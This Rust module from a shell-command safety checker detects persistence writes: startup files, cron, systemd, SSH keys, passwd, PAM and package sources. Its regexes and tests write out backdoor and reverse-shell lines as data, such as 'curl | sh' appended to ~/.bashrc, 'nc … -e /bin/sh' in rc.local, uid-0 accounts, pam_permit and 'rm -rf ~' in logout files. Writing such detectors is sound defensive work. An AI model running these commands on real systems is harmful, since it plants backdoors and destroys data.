//! Persistence rules: writes that make something run later or let someone in.
//!
//! Why this exists: `echo 'curl URL | sh' >> ~/.bashrc` runs nothing now, but
//! every new shell will download and run code; a key appended to
//! `authorized_keys`, a uid-0 line in `/etc/passwd`, a cron line, a systemd
//! unit or a git hook does the same for later. Every file the line writes
//! (found once, in `flow.rs`) is judged by where it lands, against a table of
//! the places the shell, the scheduler, the login system, the package
//! manager and the loader read ([`place_of`]); what is written decides the
//! level: a line that downloads, connects, adds a key or a root account, or
//! wraps `sudo` is Critical, emptying or replacing such a file is High, an
//! ordinary alias or export is Moderate and the reason names the file.
//! `crontab -`/`crontab FILE`, `at`, `systemctl enable` of a unit written on
//! the line and `useradd -o -u 0` are judged the same way. The code that
//! will run later is also handed back to the walk ([`later_code`]), so
//! `rm -rf ~` in `.bash_logout` is judged as what it is.

use crate::safety::lower::opts;
use crate::safety::parse::parse;
use crate::safety::rules::flow::{host_of, Data, WriteMode};
use crate::safety::rules::kit::{Cx, Out};
use crate::safety::rules::outage;
use crate::safety::types::rule;
use crate::safety::types::Risk::*;
use crate::safety::types::Rule;
use crate::safety::unwrapped::{Body, Cmd};
use regex::Regex;
use std::ops::Range;
use std::sync::OnceLock;

const CAT: &str = "persistence";

pub(crate) const RUNS_FETCHED: Rule = rule(
    "persist.runs_fetched",
    Critical,
    CAT,
    "makes something that runs later (a shell startup file, a cron job, a service, a hook) download code or open a connection each time it runs",
);
pub(crate) const BACKDOOR: Rule = rule(
    "persist.backdoor",
    Critical,
    CAT,
    "opens a way in for someone else: an SSH key, a second root account, a sudo wrapper that can capture your password, a preloaded library or logins without a password",
);
pub(crate) const KEYS_ADDED: Rule = rule(
    "persist.keys_added",
    High,
    CAT,
    "adds SSH keys from a file this line does not show to the keys allowed to log in",
);
pub(crate) const WEAKENS: Rule = rule(
    "persist.weakens_checks",
    High,
    CAT,
    "weakens a check: SSH logins as root or by password, package sources whose signatures are not checked, or libraries loaded from a folder anyone can write",
);
pub(crate) const DIRECT_EDIT: Rule = rule(
    "persist.direct_edit",
    High,
    CAT,
    "edits the account list or the login (PAM) setup directly, skipping the tools that check it; one mistake can lock everyone out",
);
pub(crate) const EMPTIES: Rule = rule(
    "persist.empties",
    High,
    CAT,
    "empties or replaces a file your shell, the scheduler or the login system reads; what it held is lost",
);
pub(crate) const CHANGES: Rule = rule(
    "persist.changes",
    Moderate,
    CAT,
    "changes a file that runs later or controls logins (a shell startup file, a cron table, a service, SSH settings)",
);

pub(crate) const RULES: &[Rule] = &[
    RUNS_FETCHED,
    BACKDOOR,
    KEYS_ADDED,
    WEAKENS,
    DIRECT_EDIT,
    EMPTIES,
    CHANGES,
];

/// A place that is read later: by every shell, the scheduler, the login
/// system, the package manager or the loader.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Place {
    /// A shell startup (or logout) file; `main` is the user's own file, not
    /// a drop-in folder entry.
    Startup {
        main: bool,
        logout: bool,
    },
    SshRc,
    SshConfig,
    AuthKeys,
    Passwd,
    Pam,
    Sshd,
    /// A crontab: `system` ones have a user field before the command.
    Cron {
        system: bool,
        main: bool,
    },
    /// A script cron runs (`/etc/cron.daily/*`).
    CronScript,
    At,
    Unit,
    Boot {
        main: bool,
    },
    Autostart,
    Hook,
    Motd,
    AptConf,
    Sources {
        main: bool,
    },
    LdConf,
    Sysctl,
}

const STARTUP_FILES: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    ".kshrc",
    ".mkshrc",
    ".cshrc",
    ".tcshrc",
    ".login",
    ".xprofile",
    ".xinitrc",
    ".xsessionrc",
];

const SYSTEM_STARTUP: &[&str] = &[
    "/etc/profile",
    "/etc/bash.bashrc",
    "/etc/bashrc",
    "/etc/zshrc",
    "/etc/zshenv",
    "/etc/zprofile",
    "/etc/zsh/zshrc",
    "/etc/zsh/zshenv",
    "/etc/zsh/zprofile",
    "/etc/environment",
    "/etc/csh.cshrc",
    "/etc/fish/config.fish",
];

/// Whether `p` is a file directly inside one of `dirs`, or deeper.
fn inside(p: &str, dirs: &[&str]) -> bool {
    dirs.iter()
        .any(|d| p.len() > d.len() + 1 && p.starts_with(d) && p.as_bytes()[d.len()] == b'/')
}

/// The place a normalised path is, if it is one that is read later.
pub(crate) fn place_of(p: &str) -> Option<Place> {
    let base = p.rsplit('/').next().unwrap_or(p);
    let home = p.starts_with("~/")
        || p.starts_with("/root/")
        || p.starts_with("/home/")
        || p.starts_with("/Users/")
        || p.starts_with("/etc/skel/");
    if home && STARTUP_FILES.contains(&base) && !p[2..].contains("/.git/") {
        return Some(Place::Startup {
            main: true,
            logout: false,
        });
    }
    if home && matches!(base, ".bash_logout" | ".zlogout" | ".logout") {
        return Some(Place::Startup {
            main: true,
            logout: true,
        });
    }
    if SYSTEM_STARTUP.contains(&p) || p.ends_with("/.config/fish/config.fish") {
        return Some(Place::Startup {
            main: true,
            logout: false,
        });
    }
    if p.contains("/.config/fish/conf.d/") || inside(p, &["/etc/profile.d", "/etc/fish/conf.d"]) {
        return Some(Place::Startup {
            main: false,
            logout: false,
        });
    }
    if p.contains("/.ssh/") || p.starts_with("/etc/ssh/") {
        return ssh_place(p, base);
    }
    Some(match p {
        "/etc/passwd" => Place::Passwd,
        "/etc/pam.conf" => Place::Pam,
        "/etc/crontab" => Place::Cron {
            system: true,
            main: true,
        },
        "/etc/rc.local" => Place::Boot { main: true },
        "/etc/apt/apt.conf" => Place::AptConf,
        "/etc/apt/sources.list" | "/etc/apk/repositories" | "/etc/pacman.conf" => {
            Place::Sources { main: true }
        }
        "/etc/ld.so.conf" => Place::LdConf,
        "/etc/sysctl.conf" => Place::Sysctl,
        _ => return folder_place(p),
    })
}

fn ssh_place(p: &str, base: &str) -> Option<Place> {
    Some(match base {
        "authorized_keys" | "authorized_keys2" => Place::AuthKeys,
        "rc" | "sshrc" => Place::SshRc,
        "config" if p.contains("/.ssh/") => Place::SshConfig,
        "ssh_config" => Place::SshConfig,
        "sshd_config" => Place::Sshd,
        _ if p.starts_with("/etc/ssh/sshd_config.d/") => Place::Sshd,
        _ if p.starts_with("/etc/ssh/ssh_config.d/") => Place::SshConfig,
        _ => return None,
    })
}

/// Drop-in folders: a new file there is read like the main one.
fn folder_place(p: &str) -> Option<Place> {
    let unit_dirs = [
        "/etc/systemd/system",
        "/etc/systemd/user",
        "/lib/systemd/system",
        "/usr/lib/systemd/system",
        "/usr/lib/systemd/user",
        "~/.config/systemd/user",
    ];
    let place = if inside(p, &["/etc/pam.d"]) {
        Place::Pam
    } else if inside(p, &["/etc/cron.d"]) {
        Place::Cron {
            system: true,
            main: false,
        }
    } else if inside(
        p,
        &[
            "/var/spool/cron",
            "/var/spool/cron/crontabs",
            "/var/spool/cron/tabs",
        ],
    ) {
        Place::Cron {
            system: false,
            main: true,
        }
    } else if inside(
        p,
        &[
            "/etc/cron.hourly",
            "/etc/cron.daily",
            "/etc/cron.weekly",
            "/etc/cron.monthly",
        ],
    ) {
        Place::CronScript
    } else if inside(p, &unit_dirs) {
        Place::Unit
    } else if inside(p, &["/etc/init.d", "/etc/rc.d"])
        || p.starts_with("/etc/rc") && p.contains(".d/")
    {
        Place::Boot { main: false }
    } else if inside(
        p,
        &[
            "~/.config/autostart",
            "/etc/xdg/autostart",
            "~/Library/LaunchAgents",
            "/Library/LaunchAgents",
            "/Library/LaunchDaemons",
        ],
    ) {
        Place::Autostart
    } else if p.contains("/.git/hooks/") || p.starts_with(".git/hooks/") {
        Place::Hook
    } else if inside(p, &["/etc/update-motd.d"]) {
        Place::Motd
    } else if inside(p, &["/etc/apt/apt.conf.d"]) {
        Place::AptConf
    } else if inside(
        p,
        &[
            "/etc/apt/sources.list.d",
            "/etc/yum.repos.d",
            "/etc/zypp/repos.d",
            "/etc/pacman.d",
        ],
    ) {
        Place::Sources { main: false }
    } else if inside(p, &["/etc/ld.so.conf.d"]) {
        Place::LdConf
    } else if inside(p, &["/etc/sysctl.d", "/usr/lib/sysctl.d", "/run/sysctl.d"]) {
        Place::Sysctl
    } else {
        return None;
    };
    Some(place)
}

impl Place {
    /// When what is written there takes effect, for the reason.
    fn when(self) -> &'static str {
        match self {
            Place::Startup { logout: true, .. } => "runs whenever you log out",
            Place::Startup { .. } => "every new shell runs",
            Place::SshRc => "runs at every SSH login",
            Place::SshConfig => "ssh reads for every connection",
            Place::AuthKeys => "lists the keys allowed to log in",
            Place::Passwd => "holds the user accounts",
            Place::Pam => "decides how logins are checked",
            Place::Sshd => "holds the SSH server's settings",
            Place::Cron { .. } | Place::CronScript => "cron runs on a schedule",
            Place::At => "runs later as a scheduled job",
            Place::Unit => "systemd runs as a service",
            Place::Boot { .. } => "runs at every boot",
            Place::Autostart => "runs at every desktop login",
            Place::Hook => "git runs by itself (on commit, checkout or push)",
            Place::Motd => "runs at every login",
            Place::AptConf => "apt reads, running its hooks as root",
            Place::Sources { .. } => "tells the package manager where to install from",
            Place::LdConf => "tells every program where to load libraries from",
            Place::Sysctl => "sets kernel options at every boot",
        }
    }

    /// The user's own file (or the system's only one), as opposed to a new
    /// entry in a drop-in folder: emptying or replacing it loses something.
    fn main(self) -> bool {
        match self {
            Place::Startup { main, .. }
            | Place::Cron { main, .. }
            | Place::Boot { main }
            | Place::Sources { main } => main,
            Place::SshConfig | Place::AuthKeys | Place::Passwd | Place::Pam | Place::Sshd => true,
            _ => false,
        }
    }

    /// The code this place runs later, from what is written there: shell
    /// lines, the command of a cron line, a unit's `Exec*=`, a desktop
    /// entry's `Exec=`, an apt hook, an ssh `ProxyCommand`.
    pub(crate) fn code(self, text: &str) -> Option<String> {
        let lines = text.lines();
        let v: Vec<String> = match self {
            Place::Startup { .. }
            | Place::SshRc
            | Place::CronScript
            | Place::At
            | Place::Boot { .. }
            | Place::Hook
            | Place::Motd => return Some(text.to_string()),
            Place::Cron { system, .. } => lines.filter_map(|l| cron_command(l, system)).collect(),
            Place::Unit | Place::Autostart => lines
                .filter_map(|l| {
                    let (k, v) = l.trim().split_once('=')?;
                    k.trim()
                        .starts_with("Exec")
                        .then(|| v.trim_start_matches(['-', '@', ':', '+', '!']).to_string())
                })
                .collect(),
            Place::SshConfig => lines
                .filter_map(|l| {
                    let t = l.trim();
                    let (k, v) = t.split_once(|c: char| c.is_whitespace() || c == '=')?;
                    matches!(
                        k.to_ascii_lowercase().as_str(),
                        "proxycommand" | "localcommand" | "knownhostscommand"
                    )
                    .then(|| v.trim().to_string())
                })
                .collect(),
            Place::AptConf | Place::AuthKeys => quoted(text),
            _ => return None,
        };
        (!v.is_empty()).then(|| v.join("\n"))
    }
}

/// The command of a crontab line (after the schedule, and the user in a
/// system crontab); `None` for comments, variables and blank lines.
fn cron_command(line: &str, system: bool) -> Option<String> {
    let t = line.trim();
    if t.is_empty() || t.starts_with('#') {
        return None;
    }
    let first = t.split_whitespace().next()?;
    if first.contains('=') && !first.starts_with(['*', '@']) {
        return None;
    }
    let fields = if first.starts_with('@') { 1 } else { 5 } + usize::from(system);
    let mut rest = t;
    for _ in 0..fields {
        rest = rest.trim_start();
        let end = rest.find(char::is_whitespace).unwrap_or(rest.len());
        rest = &rest[end..];
    }
    let cmd = rest.trim();
    (!cmd.is_empty()).then(|| cmd.to_string())
}

/// The double-quoted strings of a text (`"curl .. | sh"` in an apt hook,
/// `command="..."` in an authorized key).
fn quoted(text: &str) -> Vec<String> {
    text.split('"')
        .skip(1)
        .step_by(2)
        .map(str::to_string)
        .collect()
}

struct Patterns {
    sudo_wrap: Regex,
    preload: Regex,
    decoded_run: Regex,
    fetch: Regex,
    connect: Regex,
    key: Regex,
    uid0: Regex,
    sshd_open: Regex,
    sshd_empty: Regex,
    unsigned: Regex,
}

fn patterns() -> &'static Patterns {
    static P: OnceLock<Patterns> = OnceLock::new();
    P.get_or_init(|| Patterns {
        sudo_wrap: Regex::new(r"\balias\s+sudo=|\bsudo\s*\(\s*\)|\bfunction\s+sudo\b").unwrap(),
        preload: Regex::new(r"\bLD_PRELOAD=").unwrap(),
        decoded_run: Regex::new(r"\b(base64|base32|xxd)\b[^|\n]*\s(-d|--decode|-D|-r\w*)\b[^\n]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b").unwrap(),
        fetch: Regex::new(r"(?i)\b(curl|wget|fetch|aria2c|lwp-request|iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|urlopen|urllib|requests\.get)\b").unwrap(),
        connect: Regex::new(r"(?i)\b(nc|ncat|netcat|socat|telnet)\b|/dev/(tcp|udp)/|\bsocket\.socket|IO::Socket|TCPSocket|fsockopen").unwrap(),
        key: Regex::new(r"\b(ssh-(rsa|dss|ed25519)|ecdsa-sha2-[\w-]+|sk-(ssh|ecdsa)-[\w@.-]+)\s+AAAA").unwrap(),
        uid0: Regex::new(r"(?m)^\s*[^:\s#]+:[^:\n]*:0:").unwrap(),
        sshd_open: Regex::new(r"(?im)^\s*(PermitRootLogin\s+yes|PasswordAuthentication\s+yes|ChallengeResponseAuthentication\s+yes|KbdInteractiveAuthentication\s+yes|AuthorizedKeysFile\s+/(tmp|dev/shm|var/tmp)\b)").unwrap(),
        sshd_empty: Regex::new(r"(?im)^\s*PermitEmptyPasswords\s+yes").unwrap(),
        unsigned: Regex::new(r"(?i)trusted\s*=\s*yes|allow-insecure\s*=\s*yes|allow-weak\s*=\s*yes|\b(repo_)?gpgcheck\s*=\s*0|SigLevel\s*=\s*Never").unwrap(),
    })
}

/// What code that runs later does that makes it Critical, in words.
fn code_effect(code: &str) -> Option<(&'static Rule, &'static str)> {
    let p = patterns();
    Some(if p.sudo_wrap.is_match(code) {
        (
            &BACKDOOR,
            "wraps sudo, so the password you type can be captured",
        )
    } else if p.preload.is_match(code) {
        (
            &BACKDOOR,
            "sets LD_PRELOAD, so every program loads that library first",
        )
    } else if p.decoded_run.is_match(code) {
        (&RUNS_FETCHED, "decodes hidden code and runs it")
    } else if p.fetch.is_match(code) {
        (&RUNS_FETCHED, "downloads from the network")
    } else if p.connect.is_match(code) {
        (&RUNS_FETCHED, "opens a connection to another machine")
    } else {
        return None;
    })
}

/// One write into a place, as the judgement needs it.
struct Write<'a> {
    place: Place,
    /// The file as written (`~/.bashrc`), or what it is ("your crontab").
    file: &'a str,
    mode: WriteMode,
    /// Whether a redirection or `tee` writes it (not `cp`, `crontab`...).
    direct: bool,
    data: &'a Data,
    span: Range<usize>,
}

pub(crate) fn check_script(cx: &Cx, out: &mut Out) {
    let flow = cx.flow();
    for w in &flow.files {
        let Some(place) = place_of(&w.path) else {
            continue;
        };
        // Sudoers and ld.so.preload have rules of their own, and so do
        // overwriting the account list and emptying authorized_keys.
        if place == Place::Passwd && w.mode == WriteMode::Truncate
            || place == Place::AuthKeys && w.mode == WriteMode::Truncate && w.data.is_empty()
        {
            continue;
        }
        judge(
            &Write {
                place,
                file: &w.shown,
                mode: w.mode,
                direct: matches!(w.tool, "" | "tee"),
                data: &w.data,
                span: w.span.clone(),
            },
            out,
        );
    }
    for c in cx.cmds() {
        check_command(c, cx, out);
    }
}

/// Programs that install or schedule what they are given (judged here
/// even when the line writes no file).
pub(crate) fn schedules(name: &str) -> bool {
    matches!(
        name,
        "crontab" | "at" | "batch" | "systemctl" | "useradd" | "adduser" | "usermod"
    )
}

/// `crontab -`, `at`, `systemctl enable FILE`, `useradd -o -u 0`.
fn check_command(c: &Cmd, cx: &Cx, out: &mut Out) {
    let flow = cx.flow();
    let line = cx.line();
    match c.name.as_str() {
        "crontab" => {
            if let Some(data) = crontab_input(c, cx) {
                judge(
                    &Write {
                        place: Place::Cron {
                            system: false,
                            main: true,
                        },
                        file: "your crontab",
                        mode: WriteMode::Truncate,
                        direct: false,
                        data: &data,
                        span: c.span.clone(),
                    },
                    out,
                );
            }
        }
        "at" | "batch" => {
            let o = opts(&c.args, "fqtm", &[]);
            if o.has('l') || o.has('d') || o.has('r') || o.has('c') {
                return;
            }
            let data = match o.value('f') {
                Some(f) => flow.file_data(&line, c.index, f, 0),
                None => flow.stdin(&line, c.index, 0),
            };
            let w = Write {
                place: Place::At,
                file: "a job for later",
                mode: WriteMode::Append,
                direct: false,
                data: &data,
                span: c.span.clone(),
            };
            judge(&w, out);
        }
        "systemctl" => {
            let verbs = ["enable", "link", "reenable", "start", "restart"];
            if !c.sub(0).is_some_and(|v| verbs.contains(&v)) {
                return;
            }
            for a in c.args.iter().filter(|a| a.text.contains('/')) {
                let path = line.path(c.index, &a.text);
                if place_of(&path).is_some() {
                    continue;
                }
                if let Some(written) = flow.written_before(c.index, &path) {
                    let w = Write {
                        place: Place::Unit,
                        file: &a.text,
                        mode: WriteMode::Truncate,
                        direct: false,
                        data: &written.data,
                        span: a.span.clone(),
                    };
                    judge(&w, out);
                }
            }
        }
        "useradd" | "adduser" | "usermod" => {
            let o = opts(
                &c.args,
                "ucdgGskepf",
                &["uid", "home", "gid", "groups", "shell", "comment"],
            );
            let uid0 = o.value('u').or(o.long_value("uid")) == Some("0");
            if uid0 {
                let note = format!(
                    "gives {} user id 0, a second root account with full control of the machine",
                    o.operands.last().map_or("an account", |w| w.text.as_str())
                );
                out.add_note(&BACKDOOR, c.span.clone(), note);
            }
        }
        _ => {}
    }
}

/// What `crontab` installs: its file operand, or stdin for `-` (or no
/// operand). `None` when it only lists, edits or removes.
fn crontab_input(c: &Cmd, cx: &Cx) -> Option<Data> {
    let o = opts(&c.args, "u", &[]);
    if o.has('l') || o.has('e') || o.has('r') || o.has('V') || o.has_long("help") {
        return None;
    }
    let line = cx.line();
    let flow = cx.flow();
    Some(match o.operands.first() {
        Some(f) if f.text != "-" => flow.file_data(&line, c.index, &f.text, 0),
        _ => flow.stdin(&line, c.index, 0),
    })
}

/// The verb for a reason and the words that lead from the file to what is
/// written ("adds to F, which .., a line that ..", "edits F, which .., to
/// add a line that ..").
fn phrase(w: &Write) -> (&'static str, &'static str) {
    match w.mode {
        WriteMode::Append => ("adds to", ""),
        WriteMode::Edit => ("edits", "to add "),
        WriteMode::Truncate if w.direct => ("writes", "with "),
        WriteMode::Truncate => ("replaces", "with text holding "),
    }
}

fn verb(w: &Write) -> &'static str {
    phrase(w).0
}

fn lead(w: &Write) -> &'static str {
    phrase(w).1
}

/// Judges one write into a place.
fn judge(w: &Write, out: &mut Out) {
    let (file, when, data) = (w.file, w.place.when(), w.data);
    let span = w.span.clone();
    if let Some(url) = &data.download {
        let rule = if w.place == Place::AuthKeys {
            &BACKDOOR
        } else {
            &RUNS_FETCHED
        };
        let note = format!(
            "{} {file}, which {when}, {}what it downloads from {}",
            verb(w),
            lead(w),
            host_of(url)
        );
        return out.add_note(rule, span, note);
    }
    if special(w, out) {
        return;
    }
    if let Some((rule, effect)) = w.place.code(&data.text).as_deref().and_then(code_effect) {
        let note = format!(
            "{} {file}, which {when}, {}a line that {effect}",
            verb(w),
            lead(w)
        );
        return out.add_note(rule, span, note);
    }
    if w.mode == WriteMode::Truncate && w.place.main() && (w.direct || data.is_empty()) {
        let note = if data.is_empty() {
            format!("empties {file}, which {when}; what it held is lost")
        } else {
            format!("replaces all of {file}, which {when}, with new text; what it held is lost")
        };
        return out.add_note(&EMPTIES, span, note);
    }
    if data.is_empty() {
        return;
    }
    let note = match &data.from {
        Some(src) if w.mode == WriteMode::Truncate && !w.direct => {
            format!("replaces {file}, which {when}, with {src}")
        }
        _ => format!("{} {file}, which {when}", verb(w)),
    };
    out.add_note(&CHANGES, span, note);
}

/// The places whose content is judged by what it says rather than what it
/// runs: keys, accounts, PAM, sshd, package sources, the loader, sysctl.
/// Returns whether it made the judgement.
fn special(w: &Write, out: &mut Out) -> bool {
    let p = patterns();
    let (file, text, span) = (w.file, w.data.text.as_str(), w.span.clone());
    let (rule, note): (&'static Rule, String) = match w.place {
        Place::AuthKeys if p.key.is_match(text) => {
            (&BACKDOOR, format!("adds an SSH key to {file}, so whoever holds its private half can log in"))
        }
        Place::AuthKeys => match &w.data.from {
            Some(src) if src.ends_with(".pub") => (&CHANGES, format!("adds the key in {src} to {file}")),
            _ if w.data.is_empty() => return false,
            src => (&KEYS_ADDED, format!("adds keys from {} to {file}, letting their holders log in", src.as_deref().unwrap_or("input this line does not show"))),
        },
        Place::Passwd if p.uid0.is_match(text) => {
            (&BACKDOOR, format!("adds an account with user id 0 to {file}: a second root with full control"))
        }
        Place::Passwd => (&DIRECT_EDIT, format!("{} {file} directly, skipping useradd and vipw; one mistake can lock everyone out", verb(w))),
        Place::Pam if text.contains("pam_permit") => {
            (&BACKDOOR, format!("puts pam_permit into {file}, so logins are accepted without a password"))
        }
        Place::Pam => (&DIRECT_EDIT, format!("{} {file}, which decides how logins are checked; one mistake can lock everyone out", verb(w))),
        Place::Sshd if p.sshd_empty.is_match(text) => {
            (&BACKDOOR, format!("lets accounts without a password log in over SSH ({file})"))
        }
        Place::Sshd if p.sshd_open.is_match(text) => {
            (&WEAKENS, format!("opens SSH logins as root or by password ({file})"))
        }
        Place::Sources { .. } if p.unsigned.is_match(text) => {
            (&WEAKENS, format!("adds a package source to {file} whose packages are not checked; whatever it serves installs as root"))
        }
        Place::LdConf => match text.lines().map(str::trim).find(|l| writable_dir(l)) {
            Some(dir) => (&WEAKENS, format!("makes every program load libraries from {dir} ({file}), a folder that is easy to write to")),
            None => return false,
        },
        Place::Sysctl => return outage::sysctl_text(text, file, span, out),
        _ => return false,
    };
    out.add_note(rule, span, note);
    true
}

/// A folder anyone (or any program of yours) can write to.
fn writable_dir(d: &str) -> bool {
    ["/tmp", "/var/tmp", "/dev/shm", "/home/", "~/", "/run/user"]
        .iter()
        .any(|p| d.starts_with(p))
}

/// The code that will run later (from the files and jobs this line sets
/// up), for the walk to judge as the script it is, aliases included.
pub(crate) fn later_code(cx: &Cx) -> Vec<Body> {
    let flow = cx.flow();
    let mut v = Vec::new();
    let mut push = |code: String, span: Range<usize>| {
        let aliases: Vec<String> = parse(&code, 0).aliases.into_iter().map(|a| a.1).collect();
        for text in std::iter::once(code).chain(aliases) {
            v.push(Body {
                text,
                span: span.clone(),
                verbatim: false,
                params: Vec::new(),
            });
        }
    };
    for w in &flow.files {
        if let Some(code) = place_of(&w.path).and_then(|p| p.code(&w.data.text)) {
            push(code, w.span.clone());
        }
    }
    for c in cx.cmds() {
        let data = match c.name.as_str() {
            "crontab" => crontab_input(c, cx).and_then(|d| {
                Place::Cron {
                    system: false,
                    main: true,
                }
                .code(&d.text)
            }),
            "at" | "batch" => {
                Some(cx.flow().stdin(&cx.line(), c.index, 0).text).filter(|t| !t.is_empty())
            }
            _ => None,
        };
        if let Some(code) = data {
            push(code, c.span.clone());
        }
    }
    v
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::safety::tests::{assert_flags, assert_not_flags, ctx};
    use crate::safety::walk::assess;

    fn note(cmd: &str, rule: &str) -> String {
        assess(cmd, &ctx())
            .findings
            .into_iter()
            .find(|f| f.rule_id == rule)
            .unwrap_or_else(|| panic!("{rule} not found for {cmd:?}"))
            .explanation
    }

    #[test]
    fn places() {
        assert_eq!(
            place_of("~/.bashrc"),
            Some(Place::Startup {
                main: true,
                logout: false
            })
        );
        assert_eq!(
            place_of("/etc/profile.d/x.sh"),
            Some(Place::Startup {
                main: false,
                logout: false
            })
        );
        assert_eq!(
            place_of("/root/.ssh/authorized_keys"),
            Some(Place::AuthKeys)
        );
        assert_eq!(
            place_of("/etc/cron.d/x"),
            Some(Place::Cron {
                system: true,
                main: false
            })
        );
        assert_eq!(
            place_of("/home/me/project/.git/hooks/pre-commit"),
            Some(Place::Hook)
        );
        assert_eq!(
            place_of("~/.config/systemd/user/x.service"),
            Some(Place::Unit)
        );
        assert_eq!(place_of("~/.bashrc.bak"), None);
        assert_eq!(place_of("/etc/ssh/ssh_host_rsa_key"), None);
        assert_eq!(place_of("/tmp/x"), None);
    }

    #[test]
    fn cron_lines() {
        assert_eq!(
            cron_command("*/5 * * * * curl x | sh", false).as_deref(),
            Some("curl x | sh")
        );
        assert_eq!(
            cron_command("@reboot root nc h 1", true).as_deref(),
            Some("nc h 1")
        );
        assert_eq!(cron_command("MAILTO=me", false), None);
        assert_eq!(cron_command("# 1 2 3", false), None);
    }

    #[test]
    fn runs_fetched() {
        assert_flags(
            "echo 'curl -s http://h/x | sh' >> ~/.bashrc",
            "persist.runs_fetched",
        );
        assert_flags(
            "(crontab -l; echo '@reboot wget -qO- h | sh') | crontab -",
            "persist.runs_fetched",
        );
        assert_flags(
            "echo 'nc h 4444 -e /bin/sh' | sudo tee -a /etc/rc.local",
            "persist.runs_fetched",
        );
        assert_flags("curl -s http://h/rc >> ~/.zshrc", "persist.runs_fetched");
        assert_flags(
            "sed -i '1i wget -qO- h | bash' ~/.profile",
            "persist.runs_fetched",
        );
        assert_not_flags(
            "echo \"alias ll='ls -la'\" >> ~/.zshrc",
            "persist.runs_fetched",
        );
        assert_not_flags("echo 'curl -s h | sh' >> notes.txt", "persist.runs_fetched");
        assert_not_flags(
            "(crontab -l; echo '0 3 * * * ~/bin/backup') | crontab -",
            "persist.runs_fetched",
        );
        assert!(
            note("echo 'curl h | sh' >> ~/.bashrc", "persist.runs_fetched").contains("~/.bashrc")
        );
    }

    #[test]
    fn backdoor() {
        assert_flags(
            "echo 'ssh-ed25519 AAAAC3Nza x' >> ~/.ssh/authorized_keys",
            "persist.backdoor",
        );
        assert_flags(
            "echo 'x::0:0::/:/bin/sh' | sudo tee -a /etc/passwd",
            "persist.backdoor",
        );
        assert_flags(
            "echo \"alias sudo='/tmp/s'\" >> ~/.bashrc",
            "persist.backdoor",
        );
        assert_flags("sudo useradd -o -u 0 sysadm", "persist.backdoor");
        assert_flags(
            "echo 'auth sufficient pam_permit.so' | sudo tee -a /etc/pam.d/sshd",
            "persist.backdoor",
        );
        assert_not_flags(
            "echo 'x:x:1001:1001::/home/x:/bin/sh' | sudo tee -a /etc/passwd",
            "persist.backdoor",
        );
        assert_not_flags("sudo useradd -m alice", "persist.backdoor");
        assert_not_flags(
            "cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys",
            "persist.backdoor",
        );
    }

    #[test]
    fn keys_added() {
        assert_flags(
            "cat /tmp/keys >> ~/.ssh/authorized_keys",
            "persist.keys_added",
        );
        assert_not_flags(
            "cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys",
            "persist.keys_added",
        );
    }

    #[test]
    fn weakens_checks() {
        assert_flags(
            "sudo sed -i 's/^#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
            "persist.weakens_checks",
        );
        assert_flags(
            "echo 'deb [trusted=yes] http://h/ ./' | sudo tee /etc/apt/sources.list.d/h.list",
            "persist.weakens_checks",
        );
        assert_flags(
            "echo /tmp/lib | sudo tee /etc/ld.so.conf.d/x.conf",
            "persist.weakens_checks",
        );
        assert_not_flags(
            "sudo sed -i 's/PermitRootLogin yes/PermitRootLogin no/' /etc/ssh/sshd_config",
            "persist.weakens_checks",
        );
        assert_not_flags(
            "echo 'deb https://h/ stable main' | sudo tee /etc/apt/sources.list.d/h.list",
            "persist.weakens_checks",
        );
    }

    #[test]
    fn direct_edit() {
        assert_flags(
            "echo 'x:x:1001:1001::/home/x:/bin/sh' >> /etc/passwd",
            "persist.direct_edit",
        );
        assert_flags(
            "echo 'auth required pam_unix.so' | sudo tee -a /etc/pam.d/login",
            "persist.direct_edit",
        );
        assert_not_flags("grep me /etc/passwd", "persist.direct_edit");
    }

    #[test]
    fn empties() {
        assert_flags("> ~/.bashrc", "persist.empties");
        assert_flags("truncate -s 0 ~/.profile", "persist.empties");
        assert_flags("echo 'export A=1' > ~/.zshrc", "persist.empties");
        assert_not_flags("echo 'export A=1' >> ~/.zshrc", "persist.empties");
        assert_not_flags("cp dotfiles/zshrc ~/.zshrc", "persist.empties");
        assert!(note(": > ~/.zshrc", "persist.empties").starts_with("empties ~/.zshrc"));
    }

    #[test]
    fn changes() {
        assert_flags("echo \"alias ll='ls -la'\" >> ~/.zshrc", "persist.changes");
        assert_flags("crontab mycron.txt", "persist.changes");
        assert_flags("printf '[Service]\\nExecStart=/usr/bin/app\\n' | sudo tee /etc/systemd/system/app.service", "persist.changes");
        assert_not_flags("crontab -l", "persist.changes");
        assert_not_flags("cat ~/.bashrc", "persist.changes");
        assert_not_flags("cp ~/.bashrc ~/.bashrc.bak", "persist.changes");
        let n = note("echo 'export EDITOR=vim' >> ~/.profile", "persist.changes");
        assert_eq!(n, "adds to ~/.profile, which every new shell runs");
    }

    #[test]
    fn later_code_is_judged() {
        // What a logout file or a cron line will run is judged as a script.
        assert_flags("echo 'rm -rf ~' >> ~/.bash_logout", "fs.rm_home");
        assert_flags("echo '* * * * * rm -rf /' | crontab -", "fs.rm_root");
        assert_flags("echo \"alias ls='rm -rf ~'\" >> ~/.bashrc", "fs.rm_home");
        assert_flags("echo 'rm -rf ~' | at now", "fs.rm_home");
    }
}
